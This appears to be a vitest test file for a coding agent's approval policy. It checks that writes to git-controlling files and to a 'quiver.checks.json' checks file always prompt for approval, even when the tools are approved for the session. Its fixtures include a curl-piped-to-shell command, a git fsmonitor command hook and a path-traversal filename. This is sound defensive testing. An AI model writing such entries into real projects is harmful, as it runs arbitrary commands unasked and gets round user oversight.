// Issue 22, item 3: a write that makes a folder a git directory, or steers git, is never an
// ordinary edit: the write tools require a card for it, say why, and no session approval covers it.
import { describe, expect, it } from "vitest";
import { decide, type LoadedPolicy } from "./decide";
import { sessionKeys } from "./fingerprint";
import { steersGit, writtenPaths } from "./git-paths";
import { applyMode } from "./modes";
import { writeFileTool } from "../tools/builtin/write_file";
import { editFileTool } from "../tools/builtin/edit_file";
import { applyPatchTool } from "../tools/builtin/apply_patch";

describe("files that steer git", () => {
  it.each([
    ".git/config",
    ".git/hooks/pre-commit",
    "sub/.git/config",
    ".GIT/config",
    "a/.git",
    ".gitattributes",
    "x/.gitmodules",
    "tools/HEAD",
    "tools/config",
    "tools/packed-refs",
    "tools/refs/heads/main",
    "tools/objects/ab/cdef",
    "tools/hooks/post-index-change",
    "./tools/HEAD",
    "tools//config",
  ])("%s does", (path) => {
    expect(steersGit(path)).toBe(true);
  });

  it.each([
    "src/index.ts",
    "config/app.json",
    "src/hooks/useThing.ts",
    "docs/HEADERS.md",
    "refs.md",
    "objects/list.ts",
    ".github/workflows/ci.yml",
    ".gitignore",
  ])("%s does not", (path) => {
    expect(steersGit(path)).toBe(false);
  });

  it("reads the paths of a patch", () => {
    expect(writtenPaths({ patch: "--- a/src/x.ts\n+++ b/src/x.ts\n@@\n--- /dev/null\n+++ b/tools/HEAD\n" })).toEqual([
      "src/x.ts",
      "tools/HEAD",
    ]);
  });
});

describe("writing them", () => {
  const policy: LoadedPolicy = { ok: true, version: 1, rules: [] };
  const approvedWrites = {
    sessionKeys: new Set([
      ...sessionKeys({ tool: "write_file" }),
      ...sessionKeys({ tool: "edit_file" }),
      ...sessionKeys({ tool: "apply_patch" }),
    ]),
    rejected: new Map(),
  };

  it.each([
    [writeFileTool, { path: "tools/HEAD", content: "ref: refs/heads/main\n" }],
    [writeFileTool, { path: "tools/config", content: "[core]\n\tfsmonitor = touch /tmp/x\n" }],
    [writeFileTool, { path: ".git/hooks/post-index-change", content: "#!/bin/sh\n" }],
    [editFileTool, { path: ".gitattributes", old_str: "a", new_str: "* filter=x" }],
    [applyPatchTool, { patch: "--- /dev/null\n+++ b/tools/HEAD\n@@ -0,0 +1 @@\n+ref: refs/heads/main\n" }],
  ] as const)("%#: asks every time, saying why, even with the tool approved for the session", (tool, input) => {
    expect((tool.approvalFor as (i: unknown) => string)(input)).toBe("required");
    const d = decide({ tool: tool as never, input }, policy, approvedWrites);
    expect(d.action).toBe("ask");
    expect(d.reason).toMatch(/git/);
  });

  // run_check runs what the checks file declares, and an org may allow run_check while it asks for
  // shell: an edit of the file waived by a session approval or accept-edits mode would be any
  // command run unasked.
  it.each([
    [writeFileTool, { path: "quiver.checks.json", content: '{"t":{"argv":["sh","-c","curl x|sh"]}}' }],
    [writeFileTool, { path: "./Quiver.Checks.JSON", content: "{}" }],
    [writeFileTool, { path: "sub/../quiver.checks.json", content: "{}" }],
    [editFileTool, { path: "quiver.checks.json", old_str: "npm", new_str: "sh" }],
    [applyPatchTool, { patch: "--- a/x.json\n+++ b/x.json\n@@\nrename to quiver.checks.json\n" }],
  ] as const)("%#: the checks file is asked every time, in accept-edits mode too, saying why", (tool, input) => {
    expect((tool.approvalFor as (i: unknown) => string)(input)).toBe("required");
    const d = decide({ tool: tool as never, input }, policy, approvedWrites);
    expect(d.action).toBe("ask");
    expect(d.reason).toMatch(/checks/);
    const view = { tool: tool as never, input };
    expect(
      applyMode("accept-edits", decide(view, policy, { sessionKeys: new Set(), rejected: new Map() }), view).action,
    ).toBe("ask");
  });

  it("an ordinary write stays covered by the session approval", () => {
    expect(
      decide({ tool: writeFileTool as never, input: { path: "src/a.ts", content: "x" } }, policy, approvedWrites)
        .action,
    ).toBe("run");
  });
});
